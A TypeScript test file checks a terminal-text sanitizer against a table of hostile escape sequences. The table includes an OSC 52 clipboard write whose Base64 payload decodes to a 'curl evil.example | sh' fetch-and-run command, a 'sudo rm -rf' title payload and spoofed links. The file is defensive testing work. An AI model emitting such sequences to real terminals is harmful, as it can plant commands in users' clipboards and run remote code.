// The one sanitizer for terminal and document text (src/core/terminalText.ts): every escape family,
// 8-bit C1 forms, bidi overrides; colour only where the surface shows it; linear on hostile input.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { checkResult } from '../../../src/core/compute/resultShapes';
import { documentText, interactiveShellOutput, MAX_LINE_CHARS, plainLogLine, plainTerminalText, terminalLogLine, terminalNotice, terminalStatusLine } from '../../../src/core/terminalText';

const ESC = '\u001b';
const RESET = `${ESC}[0m`;
/** OSC 52: "write this (Base64) to the clipboard" — a remote program must never reach the user's clipboard. */
const OSC52 = `${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007`;

/** Every escape family a hostile server or program could send, each with text on both sides. */
const HOSTILE: Record<string, string> = {
  'OSC 52 clipboard (BEL)': OSC52,
  'OSC 52 clipboard (ST)': `${ESC}]52;c;cHduZWQ=${ESC}\\`,
  'OSC 52 clipboard (8-bit OSC and ST)': '\u009d52;c;cHduZWQ=\u009c',
  'OSC 8 link': `${ESC}]8;;https://evil.invalid/${ESC}\\`,
  'OSC 0 title': `${ESC}]0;sudo rm -rf\u0007`,
  'DCS (ESC P)': `${ESC}P1$qm${ESC}\\`,
  'DCS (8-bit)': '\u00901$qm\u009c',
  'APC (ESC _)': `${ESC}_Gf=24;AAAA${ESC}\\`,
  'APC (8-bit)': '\u009fpayload\u009c',
  'PM (ESC ^)': `${ESC}^privacy${ESC}\\`,
  'PM (8-bit)': '\u009eprivacy\u009c',
  'SOS (ESC X)': `${ESC}Xstring${ESC}\\`,
  'SOS (8-bit)': '\u0098string\u009c',
  'screen clear': `${ESC}[2J${ESC}[H`,
  'erase line': `${ESC}[2K`,
  'cursor up': `${ESC}[5A`,
  'scroll region': `${ESC}[1;5r`,
  'private mode (hide cursor)': `${ESC}[?25l`,
  'alternate screen': `${ESC}[?1049h`,
  '8-bit CSI clear': '\u009b2J',
  '8-bit CSI colour': '\u009b31m',
  'reset (RIS)': `${ESC}c`,
  'save cursor (DECSC)': `${ESC}7`,
  'charset (nF)': `${ESC}(0`,
  'device status report (answer-back)': `${ESC}[6n`,
  'C0 controls': '\u0000\u0001\u0007\u0008\u000b\u000c\u000e\u001a\u007f',
  'C1 controls': '\u0080\u0085\u008d\u0094\u0099',
  'bidi override': '\u202e\u202d\u202a\u2066\u2067\u2068\u2069',
};

/** True when `text` holds no ESC, no C0 control but tab/LF/CR, no DEL/C1 and no bidi control. */
function isPlain(text: string): boolean {
  return !/[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/.test(text);
}

/** Terminal output may hold ESC only as a colour sequence `ESC [ digits/; m`. */
function onlyColour(text: string): boolean {
  return isPlain(text.replace(/\u001b\[[0-9;:]*m/g, ''));
}

describe('plainTerminalText', () => {
  it('removes the colours of a uvicorn/vLLM log line and keeps the text', () => {
    const line = `${ESC}[32mINFO${ESC}[0m:     Started server process [${ESC}[36m1234${ESC}[0m]\r\n${ESC}[1;33;40mWARN${ESC}[m done\n`;
    assert.equal(plainTerminalText(line), 'INFO:     Started server process [1234]\r\nWARN done\n');
  });

  it('removes cursor moves, erase, private modes, charset designations and 8-bit CSI', () => {
    assert.equal(plainTerminalText(`a${ESC}[2K${ESC}[1A${ESC}[?25lb${ESC}(Bc\u009b31md${ESC}7e${ESC}8`), 'abcde');
  });

  it('removes window titles and hyperlinks (OSC, ended by BEL or ST) but keeps the link text', () => {
    const link = `${ESC}]8;;https://example.invalid/x${ESC}\\docs${ESC}]8;;${ESC}\\`;
    assert.equal(plainTerminalText(`${ESC}]0;title\u0007see ${link}!`), 'see docs!');
    assert.equal(plainTerminalText(`\u009d0;t\u009cok`), 'ok');
  });

  it('removes every escape family with its payload, keeping the text around it', () => {
    for (const [family, sequence] of Object.entries(HOSTILE)) {
      assert.equal(plainTerminalText(`before ${sequence}after`), 'before after', family);
    }
  });

  it('an unterminated control string ends at its line, not at the end of the log', () => {
    assert.equal(plainTerminalText(`one${ESC}]0;never ended\ntwo\n`), 'one\ntwo\n');
    assert.equal(plainTerminalText(`one\u009d52;c;never ended\ntwo`), 'one\ntwo');
  });

  it('drops other control characters, keeps tabs and line breaks, and leaves plain text untouched', () => {
    assert.equal(plainTerminalText('a\u0007\u0008\u0000b\tc\r\nd\u007f'), 'ab\tc\r\nd');
    const plain = '普通日志 line [1/2] 100% ✓ مرحبا';
    assert.equal(plainTerminalText(plain), plain);
    assert.equal(plainTerminalText(''), '');
    assert.equal(plainTerminalText(`x${ESC}`), 'x');
    assert.equal(plainTerminalText(`x${ESC}[`), 'x');
  });

  it('never leaves ESC, C0 (but tab/LF/CR), C1 or a bidi control, whatever the input', () => {
    const piece = fc.oneof(fc.constantFrom(...Object.values(HOSTILE), ESC, '\u009b', '\u009d', '\u009c', '\u0007', '[', ']', ';', '\\', 'm', '\n', '\r'), fc.string({ maxLength: 6 }), fc.string({ unit: 'binary', maxLength: 6 }));
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 40 }).map((parts) => parts.join('')), (text) => {
        assert.ok(isPlain(plainTerminalText(text)), JSON.stringify(text));
        assert.ok(isPlain(plainLogLine(text)), JSON.stringify(text));
        assert.ok(isPlain(documentText(text, 'log')), JSON.stringify(text));
        assert.ok(onlyColour(terminalLogLine(text)), JSON.stringify(text));
        assert.ok(onlyColour(terminalStatusLine('warn', text)), JSON.stringify(text));
      }),
      { numRuns: 800 },
    );
  });

  it('node logs keep their colour from the client (for the job terminal); node events arrive plain', () => {
    const log = checkResult('node.log', 'Node log', { logs: `${ESC}[32mINFO${ESC}[0m ready` }) as { logs: string };
    assert.equal(log.logs, `${ESC}[32mINFO${ESC}[0m ready`);
    const events = checkResult('node.events', 'Node events', { events: [{ reason: 'Pulled', message: `${ESC}[31mfailed${ESC}[0m`, type: 'Warning', event_time: 't' }] }) as { events: { message: string }[] };
    assert.equal(events.events[0]?.message, 'failed');
  });
});

describe('the terminal surface', () => {
  it('a log line keeps its colour, resets it at the end and drops every other sequence', () => {
    assert.equal(terminalLogLine(`${ESC}[1;32mok${ESC}[0m${ESC}[H${ESC}[2J`), `${ESC}[1;32mok${ESC}[0m${RESET}\r\n`);
    assert.equal(terminalLogLine(`${ESC}[38;5;208morange ${ESC}[48;2;1;8;3mbg${ESC}[m`), `${ESC}[38;5;208morange ${ESC}[48;2;1;8;3mbg${ESC}[m${RESET}\r\n`);
    assert.equal(terminalLogLine(`${OSC52}text`), 'text\r\n');
    assert.equal(terminalLogLine('no colour'), 'no colour\r\n');
  });

  it('a log line: colour in the 8-bit CSI form, concealed text and oversized sequences are not kept', () => {
    assert.equal(terminalLogLine('\u009b31mred'), 'red\r\n');
    assert.equal(terminalLogLine(`${ESC}[8mhidden${ESC}[0m`), `hidden${ESC}[0m${RESET}\r\n`);
    assert.equal(terminalLogLine(`${ESC}[${'1;'.repeat(100)}mx`), 'x\r\n');
  });

  it('a log line shows its final state after carriage returns and is bounded', () => {
    assert.equal(terminalLogLine('10%\r50%\r100%\r'), '100%\r\n');
    assert.equal(plainLogLine('10%\r50%\r100%'), '100%');
    assert.equal(plainLogLine('x'.repeat(MAX_LINE_CHARS + 10)).length, MAX_LINE_CHARS + 1);
    const long = terminalLogLine(`${ESC}[31m${'x'.repeat(MAX_LINE_CHARS * 3)}`);
    assert.ok(long.length < MAX_LINE_CHARS + 20, String(long.length));
    assert.ok(long.endsWith(`…${RESET}\r\n`));
  });

  it('a pod prefix is dim and plain', () => {
    assert.equal(terminalLogLine('line', `[1]${ESC}]52;c;eA==\u0007`), `${ESC}[2m[1]${RESET} line\r\n`);
  });

  it('a status line carries the server text plain, each of its lines coloured and ended for the terminal', () => {
    const name = `job${OSC52}${ESC}]8;;https://evil.invalid/${ESC}\\click${ESC}]8;;${ESC}\\${ESC}[2J\u009b2J\u009d52;c;eA==\u009c`;
    assert.equal(terminalStatusLine('dim', `Following ${name}`), `${ESC}[2mFollowing jobclick${RESET}\r\n`);
    assert.equal(terminalStatusLine('error', 'failed:\nline two\r\nthree'), `${ESC}[31mfailed:${RESET}\r\n${ESC}[31mline two${RESET}\r\n${ESC}[31mthree${RESET}\r\n`);
    assert.equal(terminalStatusLine('warn', `${ESC}[31mred server words`), `${ESC}[33mred server words${RESET}\r\n`);
  });
});

describe('the document surface', () => {
  it('plain documents (logs, Markdown, YAML) lose every sequence and control', () => {
    assert.equal(documentText(`${ESC}[32mINFO${ESC}[0m ${OSC52}ready\u0085\u202e`, 'log'), 'INFO ready');
  });

  it('a JSON document keeps its meaning: raw C1, DEL and bidi become \\u escapes', () => {
    const value = { name: `a\u009b2Jb\u009d52;c;x\u009c\u007f\u202ec`, env: 'x' };
    const shown = documentText(JSON.stringify(value, null, 2), 'json');
    assert.ok(isPlain(shown), shown);
    assert.deepEqual(JSON.parse(shown), value);
  });
});

describe('interactive terminals', () => {
  it('pass an interactive shell\'s output through whole (a real pty needs its sequences)', () => {
    const output = '\x1b[?2004h\x1b[1;32muser@gpu\x1b[0m:~$ \x1b[K';
    assert.equal(interactiveShellOutput(output), output);
  });
  it('put a notice of the extension on its own dim, plain line', () => {
    assert.equal(terminalNotice('Lost \x1b]0;title\x07the link\nretrying'), '\r\n\x1b[2mLost the link\x1b[0m\r\n\x1b[2mretrying\x1b[0m\r\n');
  });
});
